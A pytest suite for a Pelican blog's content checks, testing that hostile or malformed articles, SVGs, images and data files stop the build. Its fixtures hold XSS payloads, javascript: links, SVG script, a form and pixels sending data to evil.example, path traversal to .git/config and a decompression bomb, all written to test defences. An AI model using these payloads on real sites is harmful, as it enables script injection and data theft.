"""Hostile and careless content, in one place (issue 15): what an author commits can't
run script, leak a file, or silently corrupt the site.

Each refused input is built with the real `invoke build` (or `invoke preview` for a
publish) in a git-tracked copy of the project, several inputs per build (every problem
is reported in one list). For every refused input: the exit code is not 0, the previous
output/ is untouched, no traceback is shown, and the report names the source file.
Hostile-looking text that is accepted (code samples, escaped markup) is built and
loaded in Chromium, where no script from the content may run."""

import functools
import http.server
import re
import subprocess
import sys
import threading
import tomllib
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from PIL import Image

from conftest import SMALL_SITE_ARTICLES, copy_project, invoke, serve_folder, small_fixture_site
from content_sources import FIXTURE_SITE
from sitebuild.headers import read_fields

SCRIPT_RAN = "window.__content_script_ran"
AUTHOR = next(iter(tomllib.loads((FIXTURE_SITE / "data/authors.toml").read_text("utf-8"))))


def article(slug, body="We rest. We ask for help.", **fields):
    header = {
        "Title": f"Article {slug}",
        "Date": "2025-01-10 09:00",
        "Author": AUTHOR,
        "Category": "Self-care",
        "Tags": "rest",
        "Slug": slug,
        "Summary": "Why rest helps, in plain words.",
        **fields,
    }
    lines = [f"{key}: {value}" for key, value in header.items() if value is not None]
    return "\n".join(lines) + "\n\n" + body + "\n"


def git(project, *args):
    subprocess.run(
        ["git", "-c", "user.name=Test", "-c", "user.email=test@example.org", *args],
        cwd=project,
        check=True,
        capture_output=True,
    )


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """A copy of the project, committed to its own git repository, with a previous build
    in output/ (a single marker page) that a refused build must leave as it is."""
    folder = tmp_path_factory.mktemp("hostile")
    project = copy_project(folder / "project", small_fixture_site(folder / "content"))
    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "sample site")
    return project


def snapshot(folder):
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


class Attempt:
    """Files added to the project, one build, then the project restored."""

    def __init__(self, project, tmp_path):
        self.project, self.tmp_path = project, tmp_path
        self.output = project / "output"
        self.output.mkdir(exist_ok=True)
        (self.output / "index.html").write_text("<p>the previous build</p>\n")
        self.before = snapshot(self.output)
        self.added = []

    def write(self, name, data, commit=True):
        path = self.project / "content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data, encoding="utf-8")
        self.added.append(path)
        if commit:
            git(self.project, "add", "-f", str(path))
        return path

    def link(self, name, target):
        path = self.project / "content" / name
        path.symlink_to(target)
        self.added.append(path)
        git(self.project, "add", str(path))

    def build(self, task="build", site_url="https://blog.example.org"):
        env = {"SITEURL": site_url} if task == "preview" else None
        return invoke(task, "--output", str(self.output), cwd=self.project, env=env, check=False)

    def restore(self):
        git(self.project, "reset", "-q", "--hard")
        git(self.project, "clean", "-q", "-fdx", "content")
        for path in self.added:
            if path.is_symlink() or path.exists():
                path.unlink()

    def assert_refused(self, result, *names):
        return assert_refused(result, self.before, snapshot(self.output), names)


def assert_refused(result, output_before, output_after, names):
    """The build failed without a traceback, left output/ as it was, and its report
    names each of `names` (files inside content/); returns its output."""
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Traceback" not in output, output
    assert output_after == output_before, "a refused build changed output/"
    report = [line for line in output.splitlines() if " — " in line]
    for name in names:
        assert any(f"content/{name}" in line for line in report), (name, output)
    return output


@pytest.fixture
def attempt(project, tmp_path):
    attempt = Attempt(project, tmp_path)
    yield attempt
    attempt.restore()


# Inputs the content checks refuse, each in a file of its own (the tests below name them),
# built together: the checks of the sources report every mistake they find before Pelican
# reads a file, then stop the build; what is found only while Pelican reads (the HTML of
# a body or summary, the addresses of the pages) is reported when those found nothing.
# So one `invoke build` of each group, whose report must name every file of it.
BEFORE_READING, WHILE_READING = {}, {}


class Batch:
    """One refused build of a group of files, as each test's own build would be."""

    def __init__(self, attempt, result):
        self.result, self.output = result, result.stdout + result.stderr
        self.output_before, self.output_after = attempt.before, snapshot(attempt.output)

    def refused(self, *names):
        """Check the build was refused, left output/ as it was and named each file; the
        report's lines that name them."""
        assert_refused(self.result, self.output_before, self.output_after, names)
        return [line for line in self.output.splitlines() if any(n in line for n in names)]

    def assert_refused_at(self, name, line, says):
        """The report names `name` at `line` (`path:line: `) saying `says`."""
        lines = self.refused(name)
        assert any(f"{name}:{line}: " in text and says in text for text in lines), lines


def build_together(project, folder, files):
    attempt = Attempt(project, folder)
    try:
        for name, text in files.items():
            attempt.write(name, text)
        return Batch(attempt, attempt.build())
    finally:
        attempt.restore()


@pytest.fixture(scope="module")
def before_reading(project, tmp_path_factory):
    return build_together(project, tmp_path_factory.mktemp("batch"), BEFORE_READING)


@pytest.fixture(scope="module")
def while_reading(project, tmp_path_factory):
    return build_together(project, tmp_path_factory.mktemp("batch"), WHILE_READING)


def photo_bytes(path):
    Image.effect_noise((400, 300), 60).convert("RGB").save(path, quality=90)
    return path.read_bytes()


def decompression_bomb(path):
    """A small PNG that says it is 10,000 x 10,000 pixels: more than Pillow's limit."""
    Image.new("1", (10_000, 10_000)).save(path, optimize=True)
    return path.read_bytes()


def test_files_that_would_leak_run_script_or_be_published_wrongly_stop_the_build(attempt, tmp_path):
    secret = tmp_path / "outside-the-repository.txt"
    secret.write_text("token=not-for-the-web\n")
    attempt.link("extra/notes.txt", secret)
    attempt.link("images/config", "../../.git/config")
    attempt.write("images/evil.js", "document.title = 'pwned'\n")
    attempt.write("extra/page.html", "<script>document.title = 'pwned'</script>\n")
    attempt.write(
        "images/diagram.svg",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
    )
    attempt.write(
        "images/badge.svg",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject/></svg>\n',
    )
    attempt.write("images/photo.png", b"\xff\xd8\xff\xe0 a JPEG named .png")
    attempt.write("images/truncated.jpg", photo_bytes(tmp_path / "whole.jpg")[:2000])
    attempt.write("images/bomb.png", decompression_bomb(tmp_path / "bomb.png"))
    attempt.write("images/notes.md", "Title: Notes\n\nText.\n")
    attempt.write("articles/new-post.MD", article("new-post"))
    attempt.write("extra/tool.exe", b"MZ")
    result = attempt.build()
    output = attempt.assert_refused(
        result,
        "extra/notes.txt",
        "images/config",
        "images/evil.js",
        "extra/page.html",
        "images/diagram.svg",
        "images/badge.svg",
        "images/photo.png",
        "images/truncated.jpg",
        "images/bomb.png",
        "images/notes.md",
        "articles/new-post.MD",
        "extra/tool.exe",
    )
    assert "symbolic link" in output and "not-for-the-web" not in output


def located_photo(folder):
    """A JPEG whose EXIF says where it was taken, as phones write it."""
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (45.0, 30.0, 0.0), 3: "W", 4: (122.0, 40.0, 0.0)}
    Image.new("RGB", (40, 30)).save(folder / "located.jpg", exif=exif)
    return (folder / "located.jpg").read_bytes()


def plain_photo(folder):
    Image.new("RGB", (8, 8)).save(folder / "plain.png")
    return (folder / "plain.png").read_bytes()


def thin_picture(folder):
    """A line of a picture: its 480-pixel-wide copy would be 0 pixels high."""
    Image.new("RGB", (11_000, 10)).save(folder / "thin.png")
    return (folder / "thin.png").read_bytes()


def svg(inside, before=""):
    return lambda _: f'{before}<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()


# Static files that would load another site, run script, tell where a photo was taken or
# get a broken address: (file written, its bytes made in a folder, what the report says).
UNSAFE_FILES = {
    "style-import": (
        "images/style-import.svg",
        svg("<style>@import url(https://evil.example/x.css);</style>"),
        "a style that loads another file",
    ),
    "escaped-url": (
        "images/escaped-url.svg",
        svg(r"<style>rect { fill: u\72l(//evil.example/p.svg#a) }</style><rect/>"),
        "a style that loads another file",
    ),
    "style-attribute": (
        "extra/style-attribute.svg",
        svg('<rect style="fill:url(https://evil.example/p.svg#a)"/>'),
        "which loads another file",
    ),
    "stylesheet-instruction": (
        "images/stylesheet-instruction.svg",
        svg("", before='<?xml-stylesheet href="https://evil.example/x.css"?>'),
        "xml-stylesheet",
    ),
    "animated-handler": (
        "images/animated-handler.svg",
        svg('<set attributeName="onload" to="alert(1)"/>'),
        "animation of onload",
    ),
    "located-photo": ("images/located-photo.jpg", located_photo, "GPS position"),
    "thin-picture": ("images/thin-picture.png", thin_picture, "too large or too narrow"),
    "space-in-name": ("images/my photo.png", plain_photo, "breaks its address"),
    "line-break-in-name": ("images/my\nphoto.png", plain_photo, "control character"),
}


@pytest.fixture(scope="module")
def unsafe_files(project, tmp_path_factory):
    folder = tmp_path_factory.mktemp("unsafe-files")
    return build_together(
        project, folder, {written: make(folder) for written, make, _ in UNSAFE_FILES.values()}
    )


@pytest.mark.parametrize("case", UNSAFE_FILES)
def test_static_files_that_would_load_other_sites_or_leak_are_refused(unsafe_files, case):
    written, _, says = UNSAFE_FILES[case]
    shown = written.replace("\n", "\\n")  # the report keeps each problem on one line
    lines = unsafe_files.refused(shown)
    assert any(f"content/{shown}: file: " in line and says in line for line in lines), lines


UNUSABLE_VALUES = {
    "date": ("Date", "0001-01-01 09:00", "before 1990"),
    "vertical-tab": ("Title", "Rest\x0bnow", "vertical tab"),
    "form-feed": ("Summary", "Pasted\x0cfrom Word", "form feed"),
    "dots-tag": ("Tags", "rest, ..", "no letters or digits"),
    "marks-category": ("Category", "???", "no letters or digits"),
    "long-slug": ("Slug", "a" * 319, "at most 100"),
}
for case, (field, value, _) in UNUSABLE_VALUES.items():
    BEFORE_READING[f"articles/typo-{case}.md"] = article(f"typo-{case}", **{field: value})


@pytest.mark.parametrize("case", UNUSABLE_VALUES)
def test_values_pelican_can_not_use_stop_the_build(before_reading, case):
    lines = before_reading.refused(f"articles/typo-{case}.md")
    assert any(UNUSABLE_VALUES[case][2] in line for line in lines), lines


SOON = f"{datetime.now(ZoneInfo('America/Los_Angeles')) + timedelta(days=20):%Y-%m-%d}"
# Text that would be published garbled, reordered or invisible, and headers that are not
# read as written (a draft published with "Status: draft" showing, quotes in a title):
# (file text, the line reported, what the report says).
NOT_AS_WRITTEN = {
    "mojibake": (article("mojibake", Title="It\u00e2\u20ac\u2122s okay to rest"), 1, "garbled"),
    "accent-mojibake": (article("accent-mojibake", body="A caf\u00c3\u00a9 chat."), 9, "garbled"),
    "replacement": (article("replacement", body="Caf\ufffd and rest."), 9, "U+FFFD"),
    "bom-inside": (article("bom-inside", body="One.\n\n\ufeffTwo."), 11, "byte-order mark"),
    "override": (
        article("override", Title="Rest \u202eworn\u202c now"),
        1,
        "RIGHT-TO-LEFT OVERRIDE",
    ),
    "isolate": (article("isolate", body="Call \u2067889\u2069 today."), 9, "RIGHT-TO-LEFT ISOLATE"),
    "zero-width": (article("zero-width", Title="Rest\u200b now"), 1, "ZERO WIDTH SPACE"),
    "soft-hyphen": (article("soft-hyphen", Image_alt="A lake\u00ad at dawn"), 8, "SOFT HYPHEN"),
    "long-title": (article("long-title", Title="Rest and sleep " * 12), 1, "at most 150"),
    "yaml": ("---\n" + article("yaml").replace("\n\n", "\n---\n\n", 1), 1, "YAML"),
    "below-header": (
        article("below-header").replace("\n\n", "\n\nStatus: draft\n\n", 1),
        9,
        "below the blank line",
    ),
    "tab-continued": (article("tab-continued", Title="Rest\n\tand sleep"), 2, "indented line"),
    "empty-tag": (article("empty-tag", Tags="rest, , sleep"), 5, "empty tag"),
    "same-tag": (article("same-tag", Tags="Sleep, rest, sleep"), 5, "one tag"),
    "modified-ahead": (article("modified-ahead", Modified=SOON), 8, "still to come"),
    "reviewed-ahead": (
        article("reviewed-ahead", Reviewed_by=AUTHOR, Last_reviewed=SOON),
        9,
        "still to come",
    ),
    "empty-lang": (article("empty-lang", Lang=""), 8, "is empty"),
    "bracketed-tags": (article("bracketed-tags", Tags="[sleep, rest]"), 5, "brackets or quotes"),
    "quoted-category": (article("quoted-category", Category='"Self-care"'), 4, "in quotes"),
    "summary-note": (article("summary-note", Summary="Sleep matters.[^1]"), 7, "footnote mark"),
    "summary-reference": (
        article("summary-reference", Summary="See [the guide][guide] on sleep."),
        7,
        "reference link",
    ),
}
for case, (text, _, _) in NOT_AS_WRITTEN.items():
    BEFORE_READING[f"articles/as-written-{case}.md"] = text


@pytest.mark.parametrize("case", NOT_AS_WRITTEN)
def test_text_that_would_not_be_published_as_written_is_refused_at_its_line(before_reading, case):
    _, line, says = NOT_AS_WRITTEN[case]
    before_reading.assert_refused_at(f"articles/as-written-{case}.md", line, says)


# A listing's template (tag, index, author...) renders an article or page only by crashing
# on what it misses: `Template:` names one made for the file's kind.
OTHER_TEMPLATES = {
    "pages/template-tag.md": (
        "Title: T\nSlug: template-tag\nSummary: A page.\nTemplate: tag\n\nText.\n"
    ),
    "pages/template-article.md": (
        "Title: T\nSlug: template-article\nSummary: A page.\nTemplate: article\n\nText.\n"
    ),
    "articles/template-team.md": article("template-team", Template="team"),
}
BEFORE_READING.update(OTHER_TEMPLATES)


@pytest.mark.parametrize("name", OTHER_TEMPLATES)
def test_a_template_made_for_other_pages_is_refused(before_reading, name):
    line = 8 if name.startswith("articles/") else 4
    lines = before_reading.refused(name)
    assert any(f"{name}:{line}: Template: " in t and "is not a template" in t for t in lines)


# Python-Markdown converts nested lists recursively and crashes past ~200 levels.
BEFORE_READING["articles/deep-list.md"] = article(
    "deep-list", body="\n".join("    " * level + "- a step" for level in range(300))
)


def test_a_list_nested_past_what_markdown_converts_is_refused_at_its_line(before_reading):
    before_reading.assert_refused_at(
        "articles/deep-list.md", 49, "text: a list or quote nested 40 levels"
    )


BODY_PAYLOADS = {
    "script-src": 'Rest <script src="/images/evil.js"></script> now.',
    "inline-script": "<script>window.__content_script_ran = true</script>",
    "iframe-svg": '<iframe src="{static}/images/logo.png"></iframe>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "unquoted-javascript": "<a href=javascript:alert(1)>unquoted</a>",
    "entity-javascript": '<a href="jav&#x09;ascript:alert(1)">tabbed</a>',
    "markdown-javascript": "[click](javascript:alert(1))",
    "event-handler": '<p onclick="alert(1)">Click me</p>',
    "unquoted-remote-image": "<img src=https://evil.example/pixel.png alt=tracker>",
    "data-url": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">',
    "style": "<style>body { display: none }</style>",
    "form": '<form action="https://evil.example/"><input name="ssn"></form>',
    "object": '<object data="{static}/images/logo.png"></object>',
    "base": '<base href="https://evil.example/">',
}


for name, payload in BODY_PAYLOADS.items():
    WHILE_READING[f"articles/{name}.md"] = article(name, body=f"We rest.\n\n{payload}\n")


def test_script_and_embedded_documents_in_a_body_are_errors_naming_file_and_line(while_reading):
    lines = while_reading.refused(*(f"articles/{n}.md" for n in BODY_PAYLOADS))
    for name in BODY_PAYLOADS:
        # The body starts on line 9 of these files: the payload is on line 11.
        assert any(f"content/articles/{name}.md:11: " in line for line in lines), (name, lines)


# `{static}` and `{attach}` copy the file they name onto the site as it is: only files of
# content/images and content/extra may be named, never one outside content/.
UNPUBLISHED_FILES = {
    "parent": "[notes]({static}../../pelicanconf.py)",
    "rooted-parent": "[notes]({static}/../pelicanconf.py)",
    "encoded-parent": "[notes]({static}%2e%2e/%2e%2e/pelicanconf.py)",
    "git-config": '<img src="{static}../../.git/config" alt="A picture">',
    "data-file": "[our details]({static}../data/practice.toml)",
    "another-data-file": "[our writers]({static}../data/authors.toml)",
    "article-source": "[the draft]({static}blended-family-first-year.md)",
}
# {attach} moves a file next to its article; the build has read every file's address by
# then, so Pelican refuses with a warning naming no fix.
BEFORE_READING["articles/attach.md"] = article(
    "attach", body="![A lake at dawn]({attach}../images/calm-harbor-dawn.jpg)"
)


def test_attach_is_refused_with_the_static_link_to_write(before_reading):
    lines = before_reading.refused("articles/attach.md")
    assert any(
        "attach.md:9: link: " in line and "write {static}../images/calm-harbor-dawn.jpg" in line
        for line in lines
    ), lines


for case, link in UNPUBLISHED_FILES.items():
    BEFORE_READING[f"articles/unpublished-{case}.md"] = article(f"unpublished-{case}", body=link)


@pytest.mark.parametrize("case", UNPUBLISHED_FILES)
def test_a_static_link_to_a_file_the_site_does_not_publish_is_refused(before_reading, case):
    lines = before_reading.refused(f"articles/unpublished-{case}.md")
    assert any(
        f"unpublished-{case}.md:9: " in line
        and ("outside the content folder" in line or "not a file the site publishes" in line)
        for line in lines
    ), lines


# Pelican writes an article to Save_as and links to it at Url, each taken on its own: one
# without the other, two that disagree, or a Save_as that is no page's file name would
# give links to nowhere or to another page, or a page where a feed or dotfile belongs.
ADDRESS_FIELDS = {
    "save-as-feed": ({"Save_as": "feeds/en.atom.xml"}, 8, "not the file name of a page"),
    "save-as-folder": ({"Save_as": "theme"}, 8, "not the file name of a page"),
    "save-as-dotfile": ({"Save_as": ".nojekyll"}, 8, "not the file name of a page"),
    "save-as-too-long": ({"Save_as": "a" * 300 + ".html"}, 8, "not the file name of a page"),
    "save-as-alone": ({"Save_as": "notes/rest.html"}, 8, "Url: missing"),
    "url-alone": ({"Url": "articles/sleep-log-for-stress/"}, 8, "its usual address"),
    "url-elsewhere": ({"Save_as": "notes/index.html", "Url": "other/"}, 9, "not where"),
    # A publish writes no drafts, but an address of their own overrides that.
    "draft": (
        {"Status": "draft", "Save_as": "secret/index.html", "Url": "secret/"},
        9,
        "would be published there",
    ),
    "scheduled": (
        {"Date": SOON, "Save_as": "later/index.html", "Url": "later/"},
        8,
        "would be published there",
    ),
}
for case, (fields, _, _) in ADDRESS_FIELDS.items():
    BEFORE_READING[f"articles/address-{case}.md"] = article(f"address-{case}", **fields)


@pytest.mark.parametrize("case", ADDRESS_FIELDS)
def test_save_as_and_url_must_name_one_page_address_together(before_reading, case):
    _, line, says = ADDRESS_FIELDS[case]
    before_reading.assert_refused_at(f"articles/address-{case}.md", line, says)


# Pelican replaces only the path of a `{tag}…`-style link and keeps its scheme and host.
CARRIED_ADDRESSES = {
    "index-javascript": "[home]({index}javascript:alert(1))",
    "tag-image": "![A lake]({tag}https://evil.example/pixel.png)",
    "filename-host": "[more]({filename}//evil.example/articles/blended-family-first-year.md)",
    "author-entity": '<a href="{author}javascript&colon;alert(1)">our writer</a>',
}
for case, link in CARRIED_ADDRESSES.items():
    WHILE_READING[f"articles/carried-{case}.md"] = article(f"carried-{case}", body=link)


@pytest.mark.parametrize("case", CARRIED_ADDRESSES)
def test_a_build_link_may_not_carry_another_address(while_reading, case):
    while_reading.assert_refused_at(f"articles/carried-{case}.md", 9, "carries")


# Markup left open, or closing the page's own elements: the rest of the page (disclaimer,
# footer, crisis numbers) would be a link, bold, or hidden in a closed <details>.
UNBALANCED = {
    "open-link": ({"body": 'We <a href="https://example.org">rest.\n\nMore.'}, 9, "<a> is opened"),
    "open-details": ({"body": "<details><summary>More</summary>\n\nText."}, 9, "<details> is"),
    "page-end-tag": ({"body": "We rest.</div></main>\n\nMore."}, 9, "</main> closes"),
    "open-summary": ({"Summary": "Rest <b>now"}, 7, "<b> is opened"),
}
for case, (fields, _, _) in UNBALANCED.items():
    WHILE_READING[f"articles/unbalanced-{case}.md"] = article(f"unbalanced-{case}", **fields)


@pytest.mark.parametrize("case", UNBALANCED)
def test_markup_left_open_or_closing_the_page_is_refused_at_its_line(while_reading, case):
    _, line, says = UNBALANCED[case]
    while_reading.assert_refused_at(f"articles/unbalanced-{case}.md", line, f"HTML: {says}")


WHILE_READING["articles/theme-file.md"] = article("theme-file", Save_as="theme/js/theme.js")
WHILE_READING["articles/search.md"] = article("search-index", Save_as="pagefind/x.js")
WHILE_READING["articles/card.md"] = article("card", Save_as="social-cards/x.png")
WHILE_READING["pages/tags.md"] = "Title: Clash\nSlug: tags\nSummary: A page.\n\nText.\n"
WHILE_READING["pages/es-home.md"] = "Title: Clash\nSlug: es\nSummary: A page.\n\nText.\n"
BUILD_OWNED = {
    "articles/theme-file.md": "the theme's files",
    "articles/search.md": "the search index",
    "articles/card.md": "the social cards",
    "pages/tags.md": "tags/index.html",
    "pages/es-home.md": "the home page /es/",
}


def test_addresses_that_belong_to_the_build_or_to_another_file_are_errors(while_reading):
    lines = while_reading.refused(*BUILD_OWNED)
    for name, owner in BUILD_OWNED.items():
        assert any(name in line and owner in line for line in lines), (name, lines)


OUTSIDE = {"save-as": ("Save_as", "../outside.html"), "slug": ("Slug", "../../x")}
for case, (field, value) in OUTSIDE.items():
    BEFORE_READING[f"articles/outside-{case}.md"] = article(f"outside-{case}", **{field: value})


@pytest.mark.parametrize("case", OUTSIDE)
def test_an_address_outside_the_site_stops_the_build(before_reading, case):
    lines = before_reading.refused(f"articles/outside-{case}.md")
    assert any(OUTSIDE[case][1] in line for line in lines), lines


def test_a_page_that_would_replace_the_feed_is_refused_by_a_publish(attempt):
    attempt.write("articles/feed.md", article("feed", Save_as="feeds/all.atom.xml"))
    output = attempt.assert_refused(attempt.build("preview"), "articles/feed.md")
    assert "feeds/all.atom.xml" in output


# A published article of the sample (conftest.small_fixture_site) and a later draft that
# takes its slug.
EXISTING = FIXTURE_SITE / "articles" / SMALL_SITE_ARTICLES[0]
EXISTING_FIELDS = read_fields(EXISTING)
BEFORE_READING["articles/zz-new.md"] = article(
    EXISTING_FIELDS["slug"],
    Date=f"{int(EXISTING_FIELDS['date'][:4]) + 1}{EXISTING_FIELDS['date'][4:]}",  # a year on
    Status="draft",
)


def test_a_duplicate_slug_is_blamed_on_the_new_file_not_the_published_one(before_reading):
    before_reading.refused("articles/zz-new.md")
    about_the_slug = [
        line
        for line in before_reading.output.splitlines()
        if ": Slug: " in line and (EXISTING.name in line or "zz-new.md" in line)
    ]
    assert about_the_slug, before_reading.output
    assert all("zz-new.md" in line.split(": Slug: ")[0] for line in about_the_slug), about_the_slug


BEFORE_READING["articles/tags.md"] = article("tags", Tags="sleep, stress; rest")


def test_tags_split_on_commas_only(before_reading):
    lines = before_reading.refused("articles/tags.md")
    assert any("Tags: sleep, stress, rest" in line for line in lines), lines


def test_the_practice_details_the_theme_needs_are_checked(attempt, project):
    practice = project / "content" / "data" / "practice.toml"
    text = practice.read_text(encoding="utf-8")
    lines = [line for line in text.splitlines() if not line.startswith("booking_url")]
    text = "\n".join(lines) + "\n"
    practice.write_text(re.sub(r'(?m)^phone = ".*"$', 'phone = "call us"', text))
    output = attempt.assert_refused(attempt.build(), "data/practice.toml")
    assert "booking_url: missing" in output and "phone: 'call us'" in output


def test_a_toml_syntax_error_names_the_file_and_line(attempt, project):
    authors = project / "content" / "data" / "authors.toml"
    text = authors.read_text(encoding="utf-8")
    authors.write_text(text.replace('credential = "LCSW"', "credential = LCSW", 1))
    output = attempt.assert_refused(attempt.build(), "data/authors.toml")
    assert "content/data/authors.toml:" in output


# Mistakes in the data files authors edit, all in one build: (file, how the sample is
# changed, what the report says at that file's line).
DATA_MISTAKES = {
    "external-logo": (
        "practice.toml",
        lambda t: t.replace('logo = "images/logo.png"', 'logo = "https://evil.example/l.png"'),
        "logo: 'https://evil.example/l.png' is not a picture",
    ),
    "typo-key": (
        "practice.toml",
        lambda t: t.replace("hours =", "hourz =", 1),
        "hourz: is not a key the site reads",
    ),
    "photo-elsewhere": (
        "authors.toml",
        lambda t: t.replace('photo = ""', 'photo = "/evil.example/me.jpg"', 1),
        "photo: '/evil.example/me.jpg' is not a picture",
    ),
    "control-character": (
        "authors.toml",
        lambda t: t.replace('bio = "', 'bio = "\\u0000', 1),
        "bio: holds an invisible NUL",
    ),
    "not-a-table": (
        "authors.toml",
        lambda t: 'Sam = "therapist"\n' + t,
        "Sam: is not a table",
    ),
    "markup-name": (
        "authors.toml",
        lambda t: t + '\n["<b>Eve</b>"]\ncredential = "LCSW"\n',
        "name: '<b>Eve</b>' is not a person's name",
    ),
}


@pytest.fixture(scope="module")
def data_mistakes(project, tmp_path_factory):
    attempt = Attempt(project, tmp_path_factory.mktemp("data"))
    try:
        for name, change, _ in DATA_MISTAKES.values():
            path = project / "content" / "data" / name
            path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
        return Batch(attempt, attempt.build())
    finally:
        attempt.restore()


@pytest.mark.parametrize("case", DATA_MISTAKES)
def test_data_file_mistakes_are_refused_at_their_line(data_mistakes, case):
    name, _, says = DATA_MISTAKES[case]
    lines = data_mistakes.refused(f"data/{name}")
    assert any(re.search(rf"content/data/{name}:\d+: {re.escape(says)}", t) for t in lines), lines


def test_an_empty_author_list_is_a_report_not_a_crash(attempt, project):
    (project / "content" / "data" / "authors.toml").write_text("# no one yet\n", "utf-8")
    output = attempt.assert_refused(attempt.build(), "data/authors.toml")
    assert "content/data/authors.toml: authors: lists no writer" in output


# Old addresses the redirects plugin would write a folder for: markup, a query, a dot folder.
BAD_OLD_ADDRESSES = ["/post/<script>x</script>", "/post/rest?page=2", "/.git/config"]


def test_old_addresses_that_are_no_paths_are_refused_and_a_bom_is_read(attempt, project):
    """Windows editors may start a TOML file with a byte-order mark: it is read as UTF-8."""
    target = f"articles/{SMALL_SITE_ARTICLES[0]}"
    lines = [f'"{old}" = "{target}"' for old in BAD_OLD_ADDRESSES]
    attempt.write("data/redirects.toml", "\ufeff[redirects]\n" + "\n".join(lines) + "\n")
    practice = project / "content" / "data" / "practice.toml"
    practice.write_text("\ufeff" + practice.read_text("utf-8"), encoding="utf-8")
    output = attempt.assert_refused(attempt.build(), "data/redirects.toml")
    for number, old in enumerate(BAD_OLD_ADDRESSES, 2):
        assert f"content/data/redirects.toml:{number}: redirect: {old!r}" in output, output
    assert "practice.toml" not in output


def test_files_git_does_not_hold_refuse_a_publish_and_warn_in_development(attempt, project):
    (project / ".gitignore").write_text("content/images/private/\n", encoding="utf-8")
    git(project, "add", ".gitignore")
    ignored = attempt.write("images/private/scan.png", b"", commit=False)
    Image.new("RGB", (4, 4)).save(ignored)
    untracked = attempt.write("images/draft-photo.png", b"", commit=False)
    Image.new("RGB", (4, 4)).save(untracked)
    output = attempt.assert_refused(
        attempt.build("preview"), "images/private/scan.png", "images/draft-photo.png"
    )
    assert "ignored by git" in output and "not committed" in output
    development = attempt.build()
    assert development.returncode == 0, development.stdout + development.stderr
    assert "images/draft-photo.png: is not committed" in development.stderr


ACCEPTED = (
    "Code samples show markup as text: `<script>window.__content_script_ran = true</script>`\n"
    "\n"
    '    <img src=x alt=x onerror="window.__content_script_ran = true">\n'
    "\n"
    "Escaped: &lt;script&gt;window.__content_script_ran = true&lt;/script&gt; and a "
    "[safe link](https://example.org/?q=<script>).\n"
)


def test_hostile_looking_text_that_passes_never_runs_in_chromium(attempt, page):
    attempt.write("articles/code-sample.md", article("code-sample", body=ACCEPTED))
    result = attempt.build()
    assert result.returncode == 0, result.stdout + result.stderr
    server = serve_folder(attempt.output)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/articles/code-sample/")
        page.wait_for_load_state("load")
        assert page.evaluate(f"() => {SCRIPT_RAN} === undefined")
        assert "<script>" in page.inner_text("main")
    finally:
        server.shutdown()
    assert dialogs == []


def test_a_line_of_brackets_is_checked_in_bounded_time():
    """The checker's patterns are linear: the quadratic ones took minutes on a 100 KB line
    of `![![![`; here 400 KB must be checked within the time limit of the subprocess.
    (Python-Markdown's own time on it is bounded by the build.)"""
    script = (
        "import pathlib, sys; sys.path[:0] = ['.', 'plugins', 'plugins/content_checks']\n"
        "from test_source_checks import article, problems\n"
        "print(len(problems(pathlib.Path('.'), article(body='![' * 150_000 + '<img' * 25_000))))"
    )
    result = subprocess.run(
        [sys.executable, "-c", script],
        cwd=Path(__file__).resolve().parent.parent,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert result.returncode == 0, result.stderr


EVIL_JS = "/images/evil.js"  # requested only if a payload became a live element
SCRIPT = f'<script src="{EVIL_JS}"></script>'


WHILE_READING["articles/summary.md"] = article("summary", Summary=f"Rest now. {SCRIPT}")


def test_a_summary_with_markup_is_refused_at_its_line(while_reading):
    lines = while_reading.refused("articles/summary.md")
    assert any("content/articles/summary.md:7: HTML: <script>" in line for line in lines), lines


def test_script_in_title_tags_category_and_alt_is_text_in_the_published_site(attempt, page):
    """The content checks let plain-text metadata through; the theme escapes it. The
    published build is loaded in Chromium: no script from the content runs."""
    attempt.write(
        "articles/metadata.md",
        article(
            "metadata",
            Title=f"Rest {SCRIPT} now",
            Tags=f"sleep, calm {SCRIPT}",
            Category="Self-care <b onmouseover=alert(1)>x</b>",
            Summary='Breathe " onfocus="alert(1)" data-x=" out. &lt;meta http-equiv=refresh '
            "content=0;url=/refreshed/&gt;",
        ),
    )
    requested = []

    class Recording(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            requested.append(self.path)
            super().do_GET()

    handler = functools.partial(Recording, directory=str(attempt.output))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        result = attempt.build("preview", site_url=base)
        assert result.returncode == 0, result.stdout + result.stderr
        dialogs = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in ("/articles/metadata/", "/", "/tags/sleep/"):
            page.goto(base + path)
            page.wait_for_load_state("load")
            page.wait_for_timeout(300)  # a refresh of 0 s would have left by now
            assert page.url == base + path
            assert page.evaluate("() => document.querySelector('[onmouseover], [onfocus]')") is None
        assert page.evaluate("() => document.querySelector('meta[http-equiv=refresh i]')") is None
    finally:
        server.shutdown()
    assert dialogs == []
    assert not [path for path in requested if EVIL_JS in path or "refreshed" in path]
